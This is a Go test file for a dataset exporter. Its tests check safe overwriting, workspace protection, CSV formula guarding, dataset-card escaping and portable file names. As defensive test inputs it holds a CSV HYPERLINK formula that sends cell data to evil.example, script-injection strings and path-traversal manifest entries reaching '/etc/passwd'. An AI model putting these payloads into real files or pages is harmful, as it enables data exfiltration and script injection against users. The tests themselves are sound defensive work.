package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
)

// allFormats are the writers with an output path under dir, parquet included.
func allFormats(dir string) map[string]string {
	m := outputs(dir)
	m["parquet"] = filepath.Join(dir, "pq")
	return m
}

// tree lists the files under root (relative, "/"-separated) with their contents.
func tree(t testing.TB, root string) map[string]string {
	t.Helper()
	m := map[string]string{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(root, p)
			b, _ := os.ReadFile(p)
			m[filepath.ToSlash(rel)] = string(b)
		}
		return nil
	})
	return m
}

// fakeWorkspace writes a file standing for the workspace, with -wal and -shm beside it.
func fakeWorkspace(t testing.TB, path string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o755)
	for _, s := range []string{"", "-wal", "-shm"} {
		if err := os.WriteFile(path+s, []byte("SQLite format 3\x00"+s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func exportTo(t testing.TB, format string, o Options, recs []Record) error {
	t.Helper()
	w, err := New(format, o)
	if err != nil {
		return err
	}
	for i := range recs {
		if err := w.Write(&recs[i]); err != nil {
			w.Abort()
			return err
		}
	}
	return w.Close()
}

// Issue 13, point 1: --force replaces an earlier export and nothing else: a file loupe did not write in
// the output (or its pictures' folder) is refused by name and kept, and --force says what it replaces.
func TestForceReplacesOnlyItsOwnFiles(t *testing.T) {
	recs := fixture(t)[:5]
	for format := range allFormats("") {
		t.Run(format, func(t *testing.T) {
			out := allFormats(t.TempDir())[format]
			if err := exportTo(t, format, Options{Out: out, ShardRows: 2}, recs); err != nil {
				t.Fatal(err)
			}
			// A file of the user's where the export's files are.
			foreignDir := out
			if format == "jsonl" || format == "csv" {
				foreignDir = filepath.Join(filepath.Dir(out), imageDir(out))
			}
			foreign := filepath.Join(foreignDir, "notes.txt")
			if err := os.WriteFile(foreign, []byte("mine"), 0o644); err != nil {
				t.Fatal(err)
			}
			before := tree(t, filepath.Dir(out))
			var log bytes.Buffer
			err := exportTo(t, format, Options{Out: out, Force: true, Log: &log}, recs)
			if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "notes.txt") {
				t.Fatalf("--force over a file loupe did not write: %v", err)
			}
			if after := tree(t, filepath.Dir(out)); fmt.Sprint(after) != fmt.Sprint(before) {
				t.Fatalf("a refused --force changed files:\n%v\nwas\n%v", keys(after), keys(before))
			}
			os.Remove(foreign)

			// Without the stranger, --force replaces the earlier export and says so.
			log.Reset()
			if err := exportTo(t, format, Options{Out: out, Force: true, Log: &log, ShardRows: 2}, recs[:1]); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(log.String(), "replacing") || !strings.Contains(log.String(), "earlier export") {
				t.Errorf("--force said %q", log.String())
			}
			// and nothing of the earlier export is left: one record's worth of files.
			pics := 0
			for name := range tree(t, filepath.Dir(out)) {
				if strings.HasSuffix(name, ".png") || strings.HasSuffix(name, ".jpg") {
					pics++
				}
			}
			if format != "webdataset" && format != "parquet" && pics != 1 {
				t.Errorf("%d pictures after replacing with one record: %v", pics, keys(tree(t, filepath.Dir(out))))
			}
		})
	}
}

// Outputs that loupe did not write are never replaced: a folder without a manifest, a file without one
// beside it, a manifest that names files outside the output.
func TestForceRefusesWhatLoupeDidNotWrite(t *testing.T) {
	recs := fixture(t)[:2]
	dir := t.TempDir()
	// A folder of the user's.
	user := filepath.Join(dir, "photos")
	os.MkdirAll(filepath.Join(user, "sub"), 0o755)
	os.WriteFile(filepath.Join(user, "sub", "cat.png"), []byte("cat"), 0o644)
	for _, format := range []string{"hf", "webdataset", "parquet"} {
		err := exportTo(t, format, Options{Out: user, Force: true}, recs)
		if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "cat.png") {
			t.Errorf("%s --force into a user's folder: %v", format, err)
		}
	}
	if b, err := os.ReadFile(filepath.Join(user, "sub", "cat.png")); err != nil || string(b) != "cat" {
		t.Fatalf("the user's file: %q %v", b, err)
	}
	// A file of the user's.
	doc := filepath.Join(dir, "thesis.csv")
	os.WriteFile(doc, []byte("precious"), 0o644)
	for _, format := range []string{"jsonl", "csv"} {
		if err := exportTo(t, format, Options{Out: doc, Force: true}, recs); !errors.Is(err, ErrRefused) {
			t.Errorf("%s --force over a user's file: %v", format, err)
		}
	}
	if b, _ := os.ReadFile(doc); string(b) != "precious" {
		t.Fatalf("the user's file now holds %q", b)
	}
	// A manifest that lists files outside the output (written by hand or tampered with).
	victim := filepath.Join(dir, "victim.txt")
	os.WriteFile(victim, []byte("v"), 0o644)
	out := filepath.Join(dir, "o.jsonl")
	if err := exportTo(t, "jsonl", Options{Out: out}, recs); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(sidecarName(out), []byte(`{"files":["o.jsonl","victim.txt","../victim.txt"]}`), 0o644)
	if err := exportTo(t, "jsonl", Options{Out: out, Force: true}, recs); !errors.Is(err, ErrRefused) {
		t.Errorf("a manifest naming other files: %v", err)
	}
	hub := filepath.Join(dir, "hub")
	if err := exportTo(t, "hf", Options{Out: hub}, recs); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(hub, manifestName), []byte(`{"format":"hf","files":["README.md","../victim.txt","/etc/passwd"]}`), 0o644)
	exportTo(t, "hf", Options{Out: hub, Force: true}, recs)
	if b, _ := os.ReadFile(victim); string(b) != "v" {
		t.Fatal("a manifest entry outside the output was removed")
	}
}

// Issue 13, point 1: the workspace, its -wal and -shm files and any folder that holds them are never
// replaced, whatever the path looks like (a symbolic link, a path with ..): files are compared by
// device and inode.
func TestForceNeverTouchesTheWorkspace(t *testing.T) {
	recs := fixture(t)[:3]
	root := t.TempDir()
	ws := filepath.Join(root, "ws")
	db := filepath.Join(ws, "loupe.db")
	fakeWorkspace(t, db)
	os.Symlink(ws, filepath.Join(root, "link"))
	protect := []string{db}
	check := func(what string, err error) {
		t.Helper()
		if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "workspace") {
			t.Errorf("%s: %v", what, err)
		}
		for _, s := range []string{"", "-wal", "-shm"} {
			if b, err := os.ReadFile(db + s); err != nil || string(b) != "SQLite format 3\x00"+s {
				t.Fatalf("%s: the workspace file %s%s is gone or changed (%q, %v)", what, db, s, b, err)
			}
		}
	}
	for _, format := range []string{"webdataset", "hf", "parquet"} {
		for _, out := range []string{ws, root, filepath.Join(root, "link"), filepath.Join(ws, "..", "ws")} {
			for _, force := range []bool{true, false} {
				check(fmt.Sprintf("%s --out %s (force %v)", format, out, force),
					exportTo(t, format, Options{Out: out, Force: force, Protect: protect}, recs))
			}
			check(fmt.Sprintf("%s --out %s --resume", format, out),
				exportTo(t, format, Options{Out: out, Resume: true, Protect: protect}, recs))
		}
	}
	for _, format := range []string{"jsonl", "csv"} {
		for _, out := range []string{db, db + "-wal", db + "-shm", filepath.Join(root, "link", "loupe.db")} {
			check(format+" --out "+out, exportTo(t, format, Options{Out: out, Force: true, Protect: protect}, recs))
		}
		// even with a manifest beside it that claims the workspace
		os.WriteFile(sidecarName(db), []byte(`{"files":["loupe.db"]}`), 0o644)
		check(format+" --out the workspace with a forged manifest", exportTo(t, format, Options{Out: db, Force: true, Protect: protect}, recs))
		os.Remove(sidecarName(db))
	}
	// The workspace's -journal (or a checkpointed -wal) may be absent now, but SQLite would read a file of
	// that name as its own: an export may not create one, whatever the spelling of the path.
	os.Remove(db + "-wal")
	for _, out := range []string{db + "-journal", db + "-wal", filepath.Join(root, "link", "loupe.db-journal")} {
		err := exportTo(t, "jsonl", Options{Out: out, Protect: protect}, recs)
		if !errors.Is(err, ErrRefused) {
			t.Errorf("jsonl --out %s: %v", out, err)
		}
		if _, err := os.Lstat(out); err == nil {
			t.Errorf("%s was created", out)
		}
	}
	fakeWorkspace(t, db)
	// A hard link is the same file under another name.
	hard := filepath.Join(root, "copy.jsonl")
	if err := os.Link(db, hard); err == nil {
		os.WriteFile(sidecarName(hard), []byte(`{"files":["copy.jsonl"]}`), 0o644)
		check("jsonl --out a hard link to the workspace", exportTo(t, "jsonl", Options{Out: hard, Force: true, Protect: protect}, recs))
	}
	// An export beside the workspace is fine.
	if err := exportTo(t, "jsonl", Options{Out: filepath.Join(ws, "x.jsonl"), Protect: protect}, recs); err != nil {
		t.Errorf("an export beside the workspace: %v", err)
	}
	if err := exportTo(t, "hf", Options{Out: filepath.Join(ws, "hub"), Protect: protect}, recs); err != nil {
		t.Errorf("an export folder inside the workspace's folder: %v", err)
	}
}

// Issue 13, point 12: a text cell that a spreadsheet would read as a formula gets a leading '; numbers
// loupe wrote stay numbers; CSVRaw writes cells as they are; Excel adds a UTF-8 byte order mark.
func TestCSVFormulaGuard(t *testing.T) {
	dir := t.TempDir()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	r := withImage(Record{ID: "-id", Kind: "sample", Subset: "+sub", Decision: "accepted", DecidedBy: "@ann",
		Texts:  map[string]map[string]string{"detail": {"en": evil, "zh": "\t=1+1"}, "composition": {"en": "\r=2", "zh": "fine -1"}},
		Values: map[string]Value{"composition": {Value: -1.5, Source: "human", Who: "=who"}}}, tinyPNG(t, 3))
	read := func(o Options) ([]byte, map[string]string) {
		t.Helper()
		if err := exportTo(t, "csv", o, []Record{r}); err != nil {
			t.Fatal(err)
		}
		b := readFile(t, o.Out)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		m := map[string]string{}
		for i, h := range rows[0] {
			m[h] = rows[1][i]
		}
		return b, m
	}
	b, row := read(Options{Out: filepath.Join(dir, "a.csv")})
	want := map[string]string{"id": "'-id", "subset": "'+sub", "decided_by": "'@ann", "text_detail_en": "'" + evil,
		"text_detail_zh": "'\t=1+1", "text_composition_en": "'\r=2", "text_composition_zh": "fine -1",
		"composition": "-1.5", "composition_source": "human", "kind": "sample"}
	for k, v := range want {
		if row[k] != v {
			t.Errorf("%s = %q, want %q", k, row[k], v)
		}
	}
	if bytes.HasPrefix(b, []byte("\uFEFF")) {
		t.Error("a byte order mark without Excel")
	}
	// no cell but our own numbers starts with a formula character
	for k, v := range row {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && k != "composition" {
			t.Errorf("cell %s = %q", k, v)
		}
	}
	b, row = read(Options{Out: filepath.Join(dir, "raw.csv"), CSVRaw: true, Excel: true})
	if row["text_detail_en"] != evil || row["id"] != "-id" {
		t.Errorf("raw: %q %q", row["text_detail_en"], row["id"])
	}
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBFid,")) {
		t.Errorf("Excel: starts %q", b[:8])
	}
}

// Issue 13, point 13: the dataset card shows the title, the filter and other values as typed: no
// markdown, HTML or front matter of theirs takes effect.
func TestHFCardEscapes(t *testing.T) {
	out := filepath.Join(t.TempDir(), "hub")
	c := Card{Title: "Evil <img src=x onerror=alert(1)> [click](javascript:alert(1)) *bold*\n---\nlicense: mit\n# Owned",
		Filter:    "id=`x` <script>alert(1)</script>\n\n# heading",
		Workspace: "/tmp/`ws`<b>.db", Provenance: "<iframe src=//evil.example>", Created: "2025-03-04T05:06:07Z"}
	recs := fixture(t)[:1]
	recs[0].Decision = "<b>odd|decision</b>"
	if err := exportTo(t, "hf", Options{Out: out, Card: c}, recs); err != nil {
		t.Fatal(err)
	}
	card := string(readFile(t, filepath.Join(out, "README.md")))
	front, body, ok := strings.Cut(strings.TrimPrefix(card, "---\n"), "\n---\n")
	if !ok {
		t.Fatalf("no front matter:\n%s", card)
	}
	for _, l := range strings.Split(front, "\n") {
		if strings.HasPrefix(l, "license:") && l != "license: other" || strings.HasPrefix(l, "#") {
			t.Errorf("front matter line %q", l)
		}
	}
	if strings.Count(card, "\n---\n") != 1 || !strings.Contains(front, `pretty_name: "Evil \u003cimg`) {
		t.Errorf("front matter:\n%s", front)
	}
	// Outside code spans, no raw < [ * or line-start #, except loupe's own headings.
	for _, l := range strings.Split(body, "\n") {
		if strings.HasPrefix(l, "#") && !strings.HasPrefix(l, "# Evil") && !strings.HasPrefix(l, "## ") {
			t.Errorf("heading from data: %q", l)
		}
		plain := stripCode(l)
		for i := 0; i < len(plain); i++ {
			if strings.IndexByte("<>[]*|&", plain[i]) >= 0 && (i == 0 || plain[i-1] != '\\') && !strings.HasPrefix(l, "|") {
				t.Errorf("unescaped %q in %q", plain[i], l)
				break
			}
		}
	}
	for _, want := range []string{"# Evil \\<img src=x onerror=alert(1)\\> \\[click\\](javascript:alert(1)) \\*bold\\* --- license: mit \\# Owned\n",
		"Filter: ``id=`x` <script>alert(1)</script>  # heading``\n", "Workspace: ``/tmp/`ws`<b>.db``\n", "\\<iframe src=//evil.example\\>",
		"| \\<b\\>odd\\|decision\\</b\\> | 1 |"} {
		if !strings.Contains(card, want) {
			t.Errorf("card lacks %q:\n%s", want, card)
		}
	}
}

// stripCode removes inline code spans (markdown shows them as typed).
func stripCode(l string) string {
	var b strings.Builder
	for l != "" {
		i := strings.IndexByte(l, '`')
		if i < 0 {
			b.WriteString(l)
			break
		}
		b.WriteString(l[:i])
		n := len(l[i:]) - len(strings.TrimLeft(l[i:], "`"))
		fence := l[i : i+n]
		rest := l[i+n:]
		j := strings.Index(rest, fence)
		if j < 0 {
			b.WriteString(l[i:])
			break
		}
		l = rest[j+n:]
	}
	return b.String()
}

// Issue 13, point 14: every file an export writes is synced before it is renamed into place, and its
// folder after, in every format.
func TestCommitSyncs(t *testing.T) {
	var mu sync.Mutex
	var events []string
	syncNote = func(kind, path string) {
		mu.Lock()
		events = append(events, kind+" "+path)
		mu.Unlock()
	}
	defer func() { syncNote = nil }()
	recs := fixture(t)[:5]
	dir := t.TempDir()
	for format, out := range allFormats(dir) {
		if err := exportTo(t, format, Options{Out: out, ShardRows: 2}, recs); err != nil {
			t.Fatalf("%s: %v", format, err)
		}
	}
	at := map[string]int{}
	for i, e := range events {
		if _, ok := at[e]; !ok {
			at[e] = i
		}
	}
	n := 0
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		n++
		f, ok := at["file "+p]
		if !ok {
			t.Errorf("%s: never synced", p)
			return nil
		}
		found := false
		for i := f + 1; i < len(events); i++ {
			if events[i] == "dir "+filepath.Dir(p) {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("%s: its folder was not synced after it", p)
		}
		return nil
	})
	if n < 20 {
		t.Fatalf("only %d files written", n)
	}
}

// Issue 13, point 15: names are safe on Windows and macOS too: no reserved device names, no trailing
// dot or space, no leading dash, and two ids never share a name when case is ignored.
func TestSafeNamePortable(t *testing.T) {
	for _, id := range []string{"con", "CON", "Aux.png", "nul.tar.gz", "com1", "LPT9.x", "prn ", "com0", "lpt¹",
		"conin$", "x.", "x ", "x. .", "-rf", "--help", "-", ".-x"} {
		s := SafeName(id)
		stem, _, _ := strings.Cut(s, ".")
		stem = strings.ToLower(strings.TrimRight(stem, " "))
		if windowsReserved[stem] || strings.HasSuffix(s, ".") || strings.HasSuffix(s, " ") || strings.HasPrefix(s, "-") || strings.HasPrefix(s, ".") {
			t.Errorf("SafeName(%q) = %q", id, s)
		}
	}
	for id, want := range map[string]string{"plain-id_1": "plain-id_1", "Dup": "Dup", "console": "console", "a.b": "a.b"} {
		if got := SafeName(id); got != want {
			t.Errorf("SafeName(%q) = %q, want %q (unchanged)", id, got, want)
		}
	}
}

func TestCaseFoldedNamesDistinct(t *testing.T) {
	ids := []string{"Dup", "dup", "DUP", "a/b", "a_b-" + shortHash("a/b"), "A_B-" + strings.ToUpper(shortHash("a/b")), "K", "\u212a", "x.y", "X_Y"}
	png := tinyPNG(t, 9)
	var recs []Record
	for _, id := range ids {
		recs = append(recs, withImage(Record{ID: id, Kind: "sample", Decision: "accepted"}, png))
	}
	for _, format := range []string{"csv", "hf", "webdataset"} {
		t.Run(format, func(t *testing.T) {
			out := outputs(t.TempDir())[format]
			if err := exportTo(t, format, Options{Out: out}, recs); err != nil {
				t.Fatal(err)
			}
			var names []string
			switch format {
			case "webdataset":
				_, m := listTar(t, filepath.Join(out, "000000.tar"))
				for n := range m {
					names = append(names, n)
				}
			default:
				for n := range tree(t, filepath.Dir(out)) {
					if strings.HasSuffix(n, ".png") {
						names = append(names, filepath.Base(n))
					}
				}
			}
			seen := map[string]string{}
			for _, n := range names {
				k := strings.ToLower(n)
				if o, ok := seen[k]; ok {
					t.Errorf("%s and %s are one file where case is ignored", o, n)
				}
				seen[k] = n
			}
			want := len(ids)
			if format == "webdataset" {
				want = 2 * len(ids)
			}
			if len(names) != want {
				t.Errorf("%d names for %d ids: %v", len(names), len(ids), names)
			}
		})
	}
}

// hf puts at most hfFolderFiles pictures in a folder (data/000/, data/001/, ...), file_name matching.
func TestHFSubfolders(t *testing.T) {
	defer func(n int) { hfFolderFiles = n }(hfFolderFiles)
	hfFolderFiles = 3
	png := tinyPNG(t, 5)
	var recs []Record
	for i := range 8 {
		recs = append(recs, withImage(Record{ID: fmt.Sprintf("r%d", i), Kind: "sample", Decision: "accepted"}, png))
	}
	out := filepath.Join(t.TempDir(), "hub")
	if err := exportTo(t, "hf", Options{Out: out}, recs); err != nil {
		t.Fatal(err)
	}
	per := map[string]int{}
	for n := range tree(t, out) {
		if strings.HasSuffix(n, ".png") {
			per[filepath.Dir(n)]++
		}
	}
	if fmt.Sprint(per) != "map[data/000:3 data/001:3 data/002:2]" {
		t.Errorf("pictures per folder: %v", per)
	}
	for i, line := range strings.Split(strings.TrimSpace(string(readFile(t, filepath.Join(out, "data", "metadata.jsonl")))), "\n") {
		var m struct {
			FileName string `json:"file_name"`
			ID       string `json:"id"`
		}
		json.Unmarshal([]byte(line), &m)
		if want := fmt.Sprintf("%03d/r%d.png", i/3, i); m.FileName != want {
			t.Errorf("line %d: file_name %q, want %q", i, m.FileName, want)
		}
		if _, err := os.Stat(filepath.Join(out, "data", filepath.FromSlash(m.FileName))); err != nil {
			t.Error(err)
		}
	}
	if hfFolderFilesDefault != 10000 {
		t.Errorf("default %d pictures a folder, want the hub's 10,000", hfFolderFilesDefault)
	}
}

func keys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
